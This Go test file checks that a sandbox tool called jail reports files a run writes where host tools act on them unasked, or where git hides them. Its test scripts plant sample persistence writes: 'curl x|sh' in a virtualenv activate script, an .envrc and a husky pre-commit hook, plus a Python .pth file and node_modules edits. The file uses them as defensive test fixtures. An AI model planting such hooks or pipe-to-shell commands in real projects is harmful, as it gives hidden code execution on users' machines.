package main

import (
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/jail-sandbox/jail/internal/testutil"
	"github.com/jail-sandbox/jail/jail"
)

// TestUnseenWritesAreListed: each way a run can leave code that runs unasked on the host, or that
// git does not show, is listed at the end of the run: on stderr, when jail's waiter ends the run
// (jail re-executed to list them), and on stderr and in --report, when the host stays. The build
// before listed nothing.
func TestUnseenWritesAreListed(t *testing.T) {
	for _, c := range []struct {
		name   string
		setup  map[string]string // files in the repository before the run (committed unless ignored)
		script string
		want   []string // substrings of the lines, one each
	}{
		{"pth in an ignored virtualenv", map[string]string{".gitignore": ".venv/\n", ".venv/lib/python3.11/site-packages/pip.py": ""},
			"echo 'import os' > .venv/lib/python3.11/site-packages/evil.pth",
			[]string{".venv/lib/python3.11/site-packages/evil.pth, which tools act on unasked: Python"}},
		{"activate edited in place", map[string]string{".gitignore": ".venv/\n", ".venv/bin/activate": "# activate\n"},
			"echo 'curl x|sh' >> .venv/bin/activate",
			[]string{".venv/bin/activate, which tools act on unasked"}},
		{"dotenv and a nested envrc", map[string]string{".gitignore": ".env\n", "sub/x": ""},
			"echo 'A=1' > .env; echo 'curl x|sh' > sub/.envrc",
			[]string{".env, which tools act on unasked: direnv's dotenv", "sub/.envrc, which tools act on unasked: direnv"}},
		{"husky hook", nil, "mkdir -p .husky && echo 'curl x|sh' > .husky/pre-commit",
			[]string{".husky/pre-commit, which tools act on unasked: husky"}},
		{"cargo config", nil, "mkdir -p .cargo && echo '[build]' > .cargo/config.toml",
			[]string{".cargo/config.toml, which tools act on unasked: cargo"}},
		{"npmrc", nil, "echo 'script-shell=/tmp/x' > .npmrc",
			[]string{".npmrc, which tools act on unasked: npm"}},
		// Still writing when the command ends: the sentinels are checked once pid 1 has killed and
		// reaped it, before pid 1's own exit (spawn/pid1.c's end pipe).
		{"npmrc written until the end by a process the command left", nil,
			"(while :; do echo 'script-shell=/tmp/x' > .npmrc; done) & while [ ! -s .npmrc ]; do :; done",
			[]string{".npmrc, which tools act on unasked: npm"}},
		{"ignored build output", map[string]string{".gitignore": "build/\n"}, "mkdir -p build && echo x > build/a && echo y > build/b",
			[]string{"2 file(s) under build/, which git does not show (ignored)"}},
		{"excluded by info/exclude", map[string]string{".git/info/exclude": "secret.txt\n"}, "echo s > secret.txt",
			[]string{"secret.txt, which git does not show (ignored)"}},
		{"ignored file changed in place", map[string]string{".gitignore": "node_modules/\n", "node_modules/pkg/index.js": "module.exports = 1\n"},
			"echo 'require(\"child_process\")' >> node_modules/pkg/index.js",
			[]string{"1 file(s) under node_modules/, which git does not show (ignored)"}},
		{"visible file renamed into an ignored place", map[string]string{".gitignore": "vendor/\n", "payload.py": "import os\n", "vendor/keep": ""},
			"mv payload.py vendor/payload.py",
			[]string{"1 file(s) under vendor/, which git does not show (ignored)"}},
		{"symlink in an ignored place", map[string]string{".gitignore": ".venv/\n", ".venv/lib/python3.11/site-packages/pip.py": ""},
			"ln -s ../../../../main.py .venv/lib/python3.11/site-packages/x.pth",
			[]string{".venv/lib/python3.11/site-packages/x.pth, which tools act on unasked"}},
		{"ignored directory swapped for a symlink to its edited self", map[string]string{".gitignore": "node_modules/\n", "node_modules/pkg/index.js": "module.exports = 1\n"},
			"mv node_modules/pkg node_modules/old && echo 'require(\"child_process\")' >> node_modules/old/index.js && ln -s old node_modules/pkg",
			[]string{"under node_modules/, which git does not show (ignored)"}},
	} {
		for _, report := range []bool{false, true} {
			name := c.name
			if report {
				name += ", reported"
			}
			t.Run(name, func(t *testing.T) {
				proj, _ := project(t)
				for p, text := range c.setup {
					testutil.WriteFile(t, filepath.Join(proj, p), text)
				}
				git(t, proj, "add", "-A")
				git(t, proj, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "setup", "--allow-empty")
				var args []string
				reportFile := filepath.Join(t.TempDir(), "report.json")
				if report {
					args = []string{"--report", reportFile}
				}
				_, errOut, code := runJailIn(t, proj, "", append(args, "--", "sh", "-c", c.script)...)
				if code != 0 {
					t.Fatalf("exit %d: %s", code, errOut)
				}
				for _, w := range c.want {
					if !strings.Contains(errOut, w) {
						t.Errorf("stderr does not list %q:\n%s", w, errOut)
					}
				}
				if report {
					var r jail.Report
					b, _ := os.ReadFile(reportFile)
					if err := json.Unmarshal(b, &r); err != nil || len(r.UnseenWrites) == 0 {
						t.Errorf("the report lists no unseen write: %v\n%s", err, b)
					}
				}
			})
		}
	}
}

// TestNothingWrittenNothingListed: a run that writes nothing, or only what git shows (a tracked
// file, a new untracked one), or into the project's caches, which nothing on the host reads,
// prints nothing about unseen writes.
func TestNothingWrittenNothingListed(t *testing.T) {
	proj, _ := project(t)
	git(t, proj, "add", "-A")
	git(t, proj, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "setup")
	for _, script := range []string{"true", "echo x >> main.py; echo y > new.txt",
		`test -n "$GOCACHE" && mkdir -p "$GOCACHE/00" && echo x > "$GOCACHE/00/entry"`} {
		if _, errOut, code := runJailIn(t, proj, "", "--", "sh", "-c", script); code != 0 || strings.Contains(errOut, "the run wrote") {
			t.Errorf("%q: exit %d, %s", script, code, errOut)
		}
	}
}

// TestUnseenWritesOutsideARepository: outside any repository, git shows nothing: every file the
// run wrote is listed, counted under the directory it lies in. So too beneath an empty .git, as
// another run's placeholder is while that run lasts (the build before listed nothing then, about
// one run in 300 under /tmp on a busy machine), and when the run makes a repository itself.
func TestUnseenWritesOutsideARepository(t *testing.T) {
	const script = "echo a > a.txt; mkdir d; echo b > d/b; echo c > d/c"
	for _, c := range []struct {
		name, above, first string // a directory made above the run's, what the run does first
	}{
		{"plain", "", ""},
		{"beneath an empty .git", ".git", ""},
		{"the run makes a repository", "", "mkdir -p .git/objects && echo 'ref: refs/heads/main' > .git/HEAD; "},
	} {
		t.Run(c.name, func(t *testing.T) {
			dir := filepath.Join(t.TempDir(), "run")
			for _, d := range []string{dir, filepath.Join(filepath.Dir(dir), c.above)} {
				if err := os.MkdirAll(d, 0o755); err != nil {
					t.Fatal(err)
				}
			}
			_, errOut, code := runJailIn(t, dir, "", "--", "sh", "-c", c.first+script)
			if code != 0 || !strings.Contains(errOut, "a.txt, which git does not show (outside any git repository)") ||
				!strings.Contains(errOut, "2 file(s) under d/, which git does not show (outside any git repository)") {
				t.Errorf("exit %d:\n%s", code, errOut)
			}
		})
	}
}

// TestExcludeFileWriteIsListed: a run that adds to .git/info/exclude, hiding files from git
// status, is listed for it, when the profile lets it write there at all.
func TestExcludeFileWriteIsListed(t *testing.T) {
	proj, _ := project(t)
	exclude := filepath.Join(proj, ".git", "info", "exclude")
	before := readFile(t, exclude)
	_, errOut, _ := runJailIn(t, proj, "", "--", "sh", "-c", "echo '*.pth' >> .git/info/exclude")
	if readFile(t, exclude) != before && !strings.Contains(errOut, ".git/info/exclude, which tools act on unasked: git hides") {
		t.Errorf(".git/info/exclude changed and jail did not say so:\n%s", errOut)
	}
}

// TestStandardFilesAreNotListed: the files jail's standard output and error are, in the
// working directory (`jail -- make >build.log 2>&1`), and --json-status-fd's, are the user's
// choice, and jail's own lines land there too: they are not listed as written unseen, where anything else the run
// wrote is. The build before listed the output file.
func TestStandardFilesAreNotListed(t *testing.T) {
	dir := t.TempDir() // outside any repository: git shows nothing, every file written is listed
	out, err := os.Create(filepath.Join(dir, "out.log"))
	if err != nil {
		t.Fatal(err)
	}
	defer out.Close()
	status, err := os.Create(filepath.Join(dir, "status.jsonl"))
	if err != nil {
		t.Fatal(err)
	}
	defer status.Close()
	cmd := exec.Command(jailBin, "--json-status-fd", "3", "--", "sh", "-c", "echo hello; echo x > other.txt; echo oops >&2")
	cmd.Dir = dir
	var errb strings.Builder
	cmd.Stdout, cmd.Stderr, cmd.ExtraFiles = out, &errb, []*os.File{status}
	if err := cmd.Run(); err != nil {
		t.Fatalf("%v: %s", err, errb.String())
	}
	if strings.Contains(errb.String(), "status.jsonl") || readFile(t, filepath.Join(dir, "status.jsonl")) == "" {
		t.Errorf("status.jsonl is listed, or empty:\n%s", errb.String())
	}
	if !strings.Contains(errb.String(), "other.txt, which git does not show") {
		t.Errorf("other.txt is not listed:\n%s", errb.String())
	}
	if strings.Contains(errb.String(), "out.log") || readFile(t, filepath.Join(dir, "out.log")) != "hello\n" {
		t.Errorf("out.log is listed, or not the command's output (%q):\n%s", readFile(t, filepath.Join(dir, "out.log")), errb.String())
	}
}
